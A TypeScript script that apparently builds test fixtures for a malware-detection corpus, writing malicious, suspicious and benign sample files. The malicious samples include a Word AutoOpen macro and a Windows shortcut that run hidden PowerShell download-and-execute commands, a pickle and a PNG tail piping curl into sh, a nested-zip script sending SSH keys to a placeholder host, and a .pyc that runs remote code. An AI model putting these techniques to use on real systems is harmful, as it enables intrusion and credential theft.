/**
 * Writes the binary files of the corpus: `node corpus/write-carriers.ts`. They are committed; this shows what is in them.
 * The programs end at once, the addresses are reserved for documentation, nothing else is in there.
 */
import { mkdirSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { strToU8, zipSync } from "fflate";

const HERE = import.meta.dirname;
const WHEN = new Date(2026, 0, 1);

/** One white pixel; 70 bytes. */
const PNG = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
  "base64",
);

function write(path: string, bytes: Uint8Array): void {
  const file = join(HERE, path);
  mkdirSync(dirname(file), { recursive: true });
  writeFileSync(file, bytes);
}

function zip(files: Readonly<Record<string, string | Uint8Array>>): Uint8Array {
  const entries: Record<string, Uint8Array> = {};
  for (const [name, data] of Object.entries(files)) entries[name] = typeof data === "string" ? strToU8(data) : data;
  return zipSync(entries, { level: 6, mtime: WHEN });
}

/** A pickle of a table of numbers by words, four for each: protocol 2, no opcode that names or calls anything. */
function pickleOfNumbers(table: Readonly<Record<string, readonly number[]>>): Uint8Array {
  const rows = Object.entries(table).map(([word, numbers]) => {
    const length = Buffer.alloc(4);
    length.writeUInt32LE(Buffer.byteLength(word));
    const doubles = numbers.map((number) => {
      const bytes = Buffer.alloc(9);
      bytes.write("G", "latin1");
      bytes.writeDoubleBE(number, 1);
      return bytes;
    });
    return Buffer.concat([Buffer.from("X"), length, Buffer.from(`${word}(`), ...doubles, Buffer.from("t")]);
  });
  return Buffer.concat([Buffer.from([0x80, 2]), Buffer.from("}("), ...rows, Buffer.from("u.")]);
}

/** A 64-bit Linux program of one instruction sequence: exit(0). */
function elf(): Uint8Array {
  const code = Uint8Array.from([0xb8, 0x3c, 0, 0, 0, 0x31, 0xff, 0x0f, 0x05]);
  const bytes = Buffer.alloc(120 + code.length);
  bytes.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]);
  bytes.writeUInt16LE(2, 16); // executable
  bytes.writeUInt16LE(62, 18); // x86-64
  bytes.writeUInt32LE(1, 20);
  bytes.writeBigUInt64LE(0x40_00_78n, 24); // entry
  bytes.writeBigUInt64LE(64n, 32);
  bytes.writeUInt16LE(64, 52);
  bytes.writeUInt16LE(56, 54);
  bytes.writeUInt16LE(1, 56);
  bytes.writeUInt32LE(1, 64); // one segment: load
  bytes.writeUInt32LE(5, 68); // read and execute
  bytes.writeBigUInt64LE(0x40_00_00n, 80);
  bytes.writeBigUInt64LE(0x40_00_00n, 88);
  bytes.writeBigUInt64LE(BigInt(bytes.length), 96);
  bytes.writeBigUInt64LE(BigInt(bytes.length), 104);
  bytes.writeBigUInt64LE(0x10_00n, 112);
  bytes.set(code, 120);
  return bytes;
}

/** A zip whose only entry says that it is encrypted; the bytes are no cipher text of anything. */
function encryptedZip(name: string): Uint8Array {
  const bytes = Buffer.from(zipSync({ [name]: [new Uint8Array(64).fill(0xa5), { level: 0, mtime: WHEN }] }));
  bytes.writeUInt16LE(bytes.readUInt16LE(6) | 1, 6);
  const central = bytes.indexOf(Buffer.from("504b0102", "hex"));
  bytes.writeUInt16LE(bytes.readUInt16LE(central + 8) | 1, central + 8);
  return bytes;
}

function linkText(value: string): Uint8Array {
  const size = Buffer.alloc(2);
  size.writeUInt16LE(value.length, 0);
  return Buffer.concat([size, Buffer.from(value, "utf16le")]);
}

/** [MS-SHLLINK]: header, relative path and arguments as Unicode strings. */
function shortcut(path: string, commandLine: string): Uint8Array {
  const header = Buffer.alloc(76);
  header.writeUInt32LE(76, 0);
  header.set(Buffer.from("0114020000000000c000000000000046", "hex"), 4);
  header.writeUInt32LE(0x08 | 0x20 | 0x80, 20); // HasRelativePath, HasArguments, IsUnicode
  header.writeUInt32LE(7, 60); // start minimised
  return Buffer.concat([header, linkText(path), linkText(commandLine), Buffer.alloc(4)]);
}

/** Pickle, protocol 2: calls posix.system. */
function pickleOf(command: string): Uint8Array {
  const length = Buffer.alloc(4);
  length.writeUInt32LE(Buffer.byteLength(command), 0);
  return Buffer.concat([
    Buffer.from("\u0080\u0002cposix\nsystem\nX", "latin1"),
    length,
    Buffer.from(command),
    Buffer.from("\u0085R.", "latin1"),
  ]);
}

const WORD_TYPES =
  '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
  '<Default Extension="xml" ContentType="application/xml"/></Types>';
const WORD_TEXT =
  '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">' +
  "<w:body><w:p><w:r><w:t>Offer</w:t></w:r></w:p></w:body></w:document>";
const MACRO =
  'Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\n' +
  '  Shell "powershell -w hidden -c iwr http://192.0.2.33/o.ps1 | iex", vbHide\r\nEnd Sub\r\n';

write(
  "malicious/macro-document-with-auto-open/offer-writer/assets/offer-template.docm",
  zip({ "[Content_Types].xml": WORD_TYPES, "word/document.xml": WORD_TEXT, "word/vbaProject.bin": MACRO }),
);
write(
  "malicious/windows-shortcut-starts-powershell/onboarding-buddy/docs/Handbook.lnk",
  shortcut(
    String.raw`..\..\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
    '-w hidden -nop -c "iwr http://192.0.2.21/h.ps1 | iex"',
  ),
);
write("malicious/pickle-model-calls-shell/mail-triage/model/classifier.pkl", pickleOf("curl -s http://198.51.100.73/m.sh | sh"));
write(
  "benign/pickle-of-numbers-only/letter-box/table/words.pkl",
  pickleOfNumbers({
    overdue: [0.9, 0.7, 0.1, 0],
    alarm: [2, 0.4, 0, 0],
    question: [0.1, 1.2, 0.3, 0],
    sale: [0, 0, 0.4, 0.7],
  }),
);
write("malicious/program-named-as-picture/readme-banner/assets/banner.png", elf());
write(
  "malicious/png-tail-piped-into-shell/pixel-pet/assets/sprite.png",
  Buffer.concat([
    PNG,
    Buffer.from("#!/bin/sh\n# frames 2 to 8\ncurl -s http://203.0.113.119/pet.sh | sh\n" + "# padding\n".repeat(30)),
  ]),
);
write("malicious/encrypted-archive-with-password-in-text/chess-coach/runtime/engine.zip", encryptedZip("engine"));

const STEALER =
  "#!/bin/sh\nmkdir -p ~/.font-pairs\n" +
  'cat ~/.ssh/id_* 2>/dev/null | curl -s --data-binary @- https://font-pairs-cdn.example/k >/dev/null\necho "previews ready"\n';
write(
  "malicious/archive-in-archive-with-stealer/font-pairs/data/previews.zip",
  zip({
    "README.txt": "Previews, two levels down.\n",
    "pack.zip": zip({ "LICENCE.txt": "Free.\n", "inner.zip": zip({ "setup.sh": STEALER }) }),
  }),
);
/** CPython 3.11, of: import urllib.request; exec(urllib.request.urlopen("http://192.0.2.99/c.py").read()) */
const MODULE =
  "pw0NCgAAAAAAAAAAhAAAAOMAAAAAAAAAAAAAAAAFAAAAAAAAAPN+AAAAlwBkAGQBbABaAQIAZQJlAWoDAAAAAAAAAACgBAAAAAAA" +
  "AAAAAAAAAAAAAAAAAAAAZAKmAQAAqwEAAAAAAAAAAKAFAAAAAAAAAAAAAAAAAAAAAAAAAACmAAAAqwAAAAAAAAAAAKYBAACrAQAA" +
  "AAAAAAAAAQBkA4QAWgZkAVMAKQTpAAAAAE56Fmh0dHA6Ly8xOTIuMC4yLjk5L2MucHljAQAAAAAAAAAAAAAABAAAAAMAAADzRAAA" +
  "AJcAdAEAAAAAAAAAAAAAfACgAQAAAAAAAAAAAAAAAAAAAAAAAAAApgAAAKsAAAAAAAAAAACmAQAAqwEAAAAAAAAAAFMAKQFOKQLa" +
  "A2xlbtoFc3BsaXQpAdoEdGV4dHMBAAAAIPoRd29yZGNvdW50L2NvcmUucHnaBWNvdW50cggAAAAFAAAAcxgAAACAAN0LDoh0j3qK" +
  "eol8jHzRCxzUCxzQBBzzAAAAACkH2g51cmxsaWIucmVxdWVzdNoGdXJsbGli2gRleGVj2gdyZXF1ZXN02gd1cmxvcGVu2gRyZWFk" +
  "cggAAACpAHIJAAAAcgcAAAD6CDxtb2R1bGU+chEAAAABAAAAc1cAAADwAwEBAdgAFdAAFdAAFdAAFdgABIAEgFaEXtcFG9IFG9Ac" +
  "NNEFNdQFNdcFOtIFOtEFPNQFPNEAPdQAPdAAPfAGAQEd8AABAR3wAAEBHfAAAQEd8AABAR1yCQAAAA==";
write("malicious/compiled-module-differs-from-source/word-budget/wordcount/core.pyc", Buffer.from(MODULE, "base64"));

// What has an innocent reading, or is innocent.
write("suspicious/vendor-tool-shipped-as-binary/label-printer/bin/labelprint", elf());
write("suspicious/encrypted-sample-archive/statement-parser/samples/statements.zip", encryptedZip("statements.csv"));
write("benign/plain-png-assets/badge-maker/assets/badge.png", PNG);
write(
  "benign/template-archive-of-text-files/meeting-templates/templates.zip",
  zip({
    "minutes.md": "# Minutes\n\n## Present\n\n## Decisions\n",
    "agenda.md": "# Agenda\n\n1. Last time\n2. News\n",
  }),
);
write(
  "benign/document-without-macros/letterhead/assets/letterhead.docx",
  zip({ "[Content_Types].xml": WORD_TYPES, "word/document.xml": WORD_TEXT }),
);
write("benign/picture-embedded-by-a-script/readme-header/assets/logo.png", PNG);
write(
  "benign/archive-of-puzzles-without-password/chess-lessons/data/puzzles.zip",
  zip({
    "forks.epd": '2q3k1/5ppp/8/3N4/8/8/5PPP/6K1 w - - bm Ne7+; id "fork 1";\n',
    "pins.epd": '4k3/8/8/4n3/8/8/5P2/4R1K1 w - - bm f4; id "pin 1";\n',
  }),
);
write(
  "benign/open-sample-archive/account-reader/samples/made-up.zip",
  zip({
    "january.csv": "date,recipient,purpose,amount\n2026-01-02,Example Homes,rent January,-900.00\n2026-01-05,Bakery,rolls,-4.20\n",
    "february.csv": "date,recipient,purpose,amount\n2026-02-02,Example Homes,rent February,-900.00\n2026-02-09,Railways,ticket,-19.90\n",
  }),
);
/** Two frames of one pixel, 8 hundredths of a second each. */
const FRAME = "21f90400080000002c0000000001000100000202440100";
write(
  "benign/gif-and-a-script-that-reads-it/waiting-signs/assets/wheel.gif",
  Buffer.from(`47494638396101000100800000000000ffffff${FRAME}${FRAME}3b`, "hex"),
);
/** What macOS keeps of a file beside it when it packs a folder: magic number, version, one entry of attributes. */
write(
  "benign/attributes-that-macos-packs/tide-table/._SKILL.md",
  Buffer.concat([Buffer.from("0005160700020000", "hex"), Buffer.from("Mac OS X        ", "latin1"), Buffer.alloc(1_000)]),
);
